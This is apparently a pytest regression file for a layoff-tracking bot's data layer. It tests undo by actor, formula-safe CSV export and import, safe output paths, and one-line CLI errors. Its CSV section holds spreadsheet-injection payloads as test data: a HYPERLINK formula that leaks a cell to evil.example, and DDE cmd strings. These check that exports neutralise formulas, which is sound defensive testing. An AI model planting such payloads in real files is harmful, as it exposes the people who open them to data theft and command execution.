"""Regressions of the data-layer review (issue 11): undo by actor, formula-safe CSV, output
files that never replace the database or a device, and one-line CLI errors."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from bot.data.csv_safety import FORMULA_TRIGGERS, guard_cell, unguard_cell
from bot.data.db import SCHEMA_VERSION, open_db
from bot.data.importer import import_csv
from bot.data.store import add_event, undo
from bot.data.validation import UndoError, ValidationError
from bot.safe_output import (
    UnsafeOutputError,
    atomic_write,
    database_files,
    safe_output_path,
)
from cli.main import cli

try:  # tests/ may or may not be a package
    from fixtures_data import small_db
except ModuleNotFoundError:  # pragma: no cover
    from tests.fixtures_data import small_db  # noqa: F401

SOURCE = "https://example.com/hardening"


def _add(db, actor: str, count: int, **extra):
    return add_event(db, company="Amazon", date="2026-02-03", count=str(count), source=SOURCE, actor=actor, **extra)


# --------------------------------------------------------------------------- undo by actor


def test_undo_without_id_undoes_the_callers_own_last_change(small_db) -> None:
    mine = _add(small_db, "alice", 100)
    theirs = _add(small_db, "bob", 200)  # bob's add comes later: "the last change" is his
    done = undo(small_db, actor="alice")
    assert done.undoes == mine.change_id
    assert small_db.execute("SELECT count(*) FROM events WHERE id = ?", [theirs.event["id"]]).fetchone()[0] == 1
    assert small_db.execute("SELECT count(*) FROM events WHERE id = ?", [mine.event["id"]]).fetchone()[0] == 0


def test_undo_without_id_when_the_caller_has_nothing_names_the_latest_change(small_db) -> None:
    theirs = _add(small_db, "bob", 200)
    with pytest.raises(UndoError, match=f"nothing to undo for carol .*{theirs.change_id}, is by bob"):
        undo(small_db, actor="carol")


def test_a_chat_user_is_the_same_actor_under_a_new_display_name(small_db) -> None:
    added = _add(small_db, "slack:U1 (Ada)", 100)
    _add(small_db, "slack:U12 (Bo)", 200)  # an id that merely starts like Ada's
    assert undo(small_db, actor="slack:U1 (Ada Lovelace)").undoes == added.change_id


def test_cli_undo_says_whose_change_it_undid(tmp_path: Path) -> None:
    runner = CliRunner()
    db_args = ["--db", str(tmp_path / "u.db")]

    def run(*args: str):
        return runner.invoke(cli, [*db_args, *args], catch_exceptions=False)

    assert run("data", "init", "--empty").exit_code == 0
    alice = run("data", "add", "--company", "Acme", "--new-company", "--date", "2026-01-02", "--count", "10",
                "--source", SOURCE, "--actor", "alice")
    bob = run("data", "add", "--company", "Acme", "--date", "2026-03-02", "--count", "20",
              "--source", SOURCE, "--actor", "bob")
    assert alice.exit_code == bob.exit_code == 0
    alice_change = int(alice.output.rsplit("(change ", 1)[1].split(")")[0])
    result = run("data", "undo", "--actor", "alice")
    assert result.exit_code == 0, result.output
    assert f"Undid change {alice_change} by alice" in result.output and "2026-01-02" in result.output
    assert "Acme" in run("data", "export").output.split("2026-03-02")[0]  # bob's round is still there
    help_text = run("data", "undo", "--help").output
    assert "your own last change" in help_text


# --------------------------------------------------------------------------- CSV formulas

_HOSTILE = {
    "note": '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "division": "-2+3",
    "country": "+cmd|' /C notepad'!A0",
}


@given(st.text())
def test_guard_then_unguard_gives_the_value_back(text: str) -> None:
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    assert guarded[:1] not in FORMULA_TRIGGERS


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''@x"], ids=repr)
def test_cells_a_spreadsheet_would_run_are_quoted(value: str) -> None:
    assert guard_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Amazon", "1,200", "'quoted'", "", "a=b", " =x"], ids=repr)
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert guard_cell(value) == value == unguard_cell(value)


def test_export_neutralises_formulas_and_reimport_restores_them(tmp_path: Path) -> None:
    runner = CliRunner()
    source_db, target_db = tmp_path / "a.db", tmp_path / "b.db"

    def run(db: Path, *args: str):
        result = runner.invoke(cli, ["--db", str(db), *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result

    run(source_db, "data", "init", "--empty")
    db = open_db(source_db)
    add_event(db, company="=cmd|' /C calc'!A0", new_company=True, date="2026-01-05", count="5", source=SOURCE,
              actor="x", **_HOSTILE)
    db.conn.close()
    out = tmp_path / "export.csv"
    run(source_db, "data", "export", "-o", str(out))
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert not [c for c in cells if c[:1] in FORMULA_TRIGGERS]
    assert sum(1 for c in cells if c.startswith("'") and c[1:2] in FORMULA_TRIGGERS) == 5
    run(target_db, "data", "init", "--empty")
    run(target_db, "data", "import", str(out))
    back = open_db(target_db)
    row = back.execute(
        "SELECT c.name, e.note, e.location, e.division, e.country FROM events e JOIN companies c ON c.id = e.company_id"
    ).fetchone()
    assert row == ("=cmd|' /C calc'!A0", _HOSTILE["note"], _HOSTILE["location"], _HOSTILE["division"], _HOSTILE["country"])


def test_stdout_export_is_guarded_too(tmp_path: Path) -> None:
    path = tmp_path / "s.db"
    db = open_db(path)
    db.execute("INSERT INTO meta (key, value) VALUES ('initialized', 'empty')")
    add_event(db, company="Acme", new_company=True, date="2026-01-05", count="5", source=SOURCE, note="=1+1", actor="x")
    db.conn.close()
    result = CliRunner().invoke(cli, ["--db", str(path), "data", "export"], catch_exceptions=False)
    assert "'=1+1" in result.output


def test_importer_strips_the_guard_only_before_a_trigger(small_db) -> None:
    content = (
        "company,date,total_laid_off,location,source\n"
        "Amazon,2026-01-05,5,'=x,https://example.com/1\n"
        "Amazon,2026-03-05,6,'quoted',https://example.com/2\n"
    )
    report = import_csv(small_db, content, mapping={"total_laid_off": "count"})
    assert report.committed and not report.rejected
    locations = [r[0] for r in small_db.execute("SELECT location FROM events ORDER BY date")]
    assert locations == ["=x", "'quoted'"]


# --------------------------------------------------------------------------- output files


def test_atomic_write_replaces_through_a_symlink_and_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    atomic_write(link, "new")
    assert link.is_symlink() and real.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]  # no temporary left


def test_refused_output_leaves_no_trace(tmp_path: Path) -> None:
    db = tmp_path / "live.db"
    db.write_bytes(b"precious")
    hard = tmp_path / "hard.db"
    os.link(db, hard)
    for target in (db, hard, Path(f"{db}-wal"), tmp_path):
        if target.name.endswith("-wal"):
            target.write_bytes(b"wal")
        with pytest.raises(UnsafeOutputError):
            safe_output_path(target, database_files(db))
    assert db.read_bytes() == b"precious"


def test_a_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")

    def explode(handle) -> None:
        handle.write("half")
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        atomic_write(target, explode)
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["out.csv"]


@pytest.fixture
def live(tmp_path: Path) -> Path:
    """A small initialised database file, its size recorded to prove it was not replaced."""
    path = tmp_path / "live.db"
    db = open_db(path)
    db.execute("INSERT INTO meta (key, value) VALUES ('initialized', 'empty')")
    add_event(db, company="Acme", new_company=True, date="2026-01-05", count="5", source=SOURCE, actor="x")
    db.conn.close()
    return path


def _check_intact(path: Path) -> None:
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert conn.execute("SELECT count(*) FROM events").fetchone() == (1,)
    conn.close()


@pytest.mark.parametrize("how", ["export -o", "export json", "export -o symlink", "ask --chart-out", "chart symlink"])
def test_outputs_never_replace_the_open_database(live: Path, tmp_path: Path, how: str) -> None:
    target = live
    if "symlink" in how:
        target = tmp_path / "innocent.png"
        target.symlink_to(live)
    args = {
        "export -o": ["data", "export", "-o", str(target)],
        "export json": ["data", "export", "--format", "json", "-o", str(target)],
        "export -o symlink": ["data", "export", "-o", str(target)],
        "ask --chart-out": ["ask", "--chart-out", str(target), "chart", "Acme", "layoffs"],
        "chart symlink": ["ask", "--chart-out", str(target), "chart", "Acme", "layoffs"],
    }[how]
    result = CliRunner().invoke(cli, ["--db", str(live), *args], catch_exceptions=False)
    assert result.exit_code == 1
    assert "it is the open database" in result.output
    _check_intact(live)


# --------------------------------------------------------------------------- one-line errors


def _cases(tmp: Path) -> dict[str, tuple[list[str], str]]:
    text = tmp / "notes.txt"
    text.write_text("just some text, not SQLite\n" * 10)
    folder = tmp / "folder"
    folder.mkdir()
    future = tmp / "future.db"
    conn = sqlite3.connect(future)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.close()
    good = tmp / "good.db"
    return {
        "db is a text file": (["--db", str(text), "data", "stats"], "not a database"),
        "db is /dev/null": (["--db", "/dev/null", "data", "stats"], "not a regular file"),
        "db is a directory": (["--db", str(folder), "data", "stats"], "not a regular file"),
        "db under a file": (["--db", str(text / "x.db"), "data", "stats"], "cannot create its directory"),
        "db from the future": (["--db", str(future), "data", "stats"], "newer than this layoffbot"),
        "chart-out empty": (["--db", str(good), "ask", "--chart-out", "", "chart Acme layoffs"], "not a file name"),
        "chart-out directory": (["--db", str(good), "ask", "--chart-out", str(folder), "chart Acme"], "is a directory"),
        "export to /dev/full": (["--db", str(good), "data", "export", "-o", "/dev/full"], "not a regular file"),
        "json export to /dev/full": (["--db", str(good), "data", "export", "--format", "json", "-o", "/dev/full"],
                                     "not a regular file"),
        "export under a file": (["--db", str(good), "data", "export", "-o", str(text / "x.csv")], "Not a directory"),
        "export to a directory": (["--db", str(good), "data", "export", "-o", str(folder)], "is a directory"),
        "undo with nothing": (["--db", str(good), "data", "undo", "--actor", "nobody"], "nothing to undo"),
    }


_CASE_NAMES = [
    "db is a text file", "db is /dev/null", "db is a directory", "db under a file", "db from the future",
    "chart-out empty", "chart-out directory", "export to /dev/full", "json export to /dev/full",
    "export under a file", "export to a directory", "undo with nothing",
]


@pytest.mark.parametrize("case", _CASE_NAMES)
def test_every_cli_error_is_one_line(tmp_path: Path, case: str) -> None:
    cases = _cases(tmp_path)
    assert sorted(cases) == sorted(_CASE_NAMES)
    args, message = cases[case]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and message in lines[0], result.stderr
    assert "Traceback" not in result.output


def test_verbose_adds_the_traceback(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["-v", "--db", "/dev/null", "data", "stats"])
    assert result.exit_code == 1
    assert "Traceback" in result.stderr and result.stderr.strip().splitlines()[-1].startswith("Error: ")


def test_an_unexpected_error_is_one_line_too(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import bot.data.history

    def broken(db):
        raise KeyError("xoxb-secret-token")

    monkeypatch.setattr(bot.data.history, "stats", broken)
    monkeypatch.setattr("bot.data.store.stats", broken)
    result = CliRunner().invoke(cli, ["--db", str(tmp_path / "k.db"), "data", "stats"])
    assert result.exit_code == 1
    line = result.stderr.strip()
    assert line.startswith("Error: unexpected error KeyError at test_data_hardening.py:") and "\n" not in line
    assert "xoxb" not in result.output  # an exception's message may quote a secret: never shown


# --------------------------------------------------------------------------- import vs a concurrent writer


def test_a_concurrent_add_waits_for_an_import_and_cannot_double_its_rows(tmp_path: Path) -> None:
    """The import holds the write lock while it checks its rows: another writer adding one of
    them meanwhile waits, then finds the import's row and is refused as a duplicate."""
    import threading

    path = tmp_path / "race.db"
    db = open_db(path)
    db.execute("INSERT INTO companies (id, name) VALUES (1, 'Amazon')")
    content = "company,date,total_laid_off,source\nAmazon,2026-01-05,5,https://example.com/1\nAmazon,2026-04-05,6,https://example.com/2\n"
    outcome: list[BaseException | None] = []

    def add_the_same_round() -> None:
        other = open_db(path)
        try:
            add_event(other, company="Amazon", date="2026-01-05", count="5", source=SOURCE, actor="bob")
            outcome.append(None)
        except BaseException as exc:  # noqa: BLE001 - the outcome is asserted below
            outcome.append(exc)

    threads: list[threading.Thread] = []

    def meanwhile(_rows: int) -> None:
        if not threads:
            threads.append(threading.Thread(target=add_the_same_round))
            threads[0].start()
            threads[0].join(0.3)  # it cannot finish: the import holds the lock
            assert threads[0].is_alive()

    report = import_csv(db, content, mapping={"total_laid_off": "count"}, actor="alice", progress=meanwhile)
    threads[0].join(30)
    assert report.committed and report.added == 2
    assert len(outcome) == 1 and isinstance(outcome[0], ValidationError) and "duplicate" in str(outcome[0])
    assert db.execute("SELECT count(*) FROM events WHERE date = '2026-01-05'").fetchone()[0] == 1


@pytest.mark.parametrize(
    ("mine", "other", "same"),
    [
        ("slack:U1 (Ada)", "slack:U1 (Ada L.)", True),
        ("slack:U1 (Ada)", "slack:U1", True),
        ("discord:42", "discord:42 (mod)", True),
        ("slack:U1 (Ada)", "slack:U12 (Ada)", False),
        ("slack:U1 (Ada)", "discord:U1 (Ada)", False),
        ("alice", "alice (bob)", False),
        ("alice", "alicia", False),
    ],
    ids=repr,
)
def test_who_counts_as_the_same_actor(small_db, mine: str, other: str, same: bool) -> None:
    theirs = _add(small_db, other, 100)
    if same:
        assert undo(small_db, actor=mine).undoes == theirs.change_id
    else:
        with pytest.raises(UndoError, match="nothing to undo"):
            undo(small_db, actor=mine)
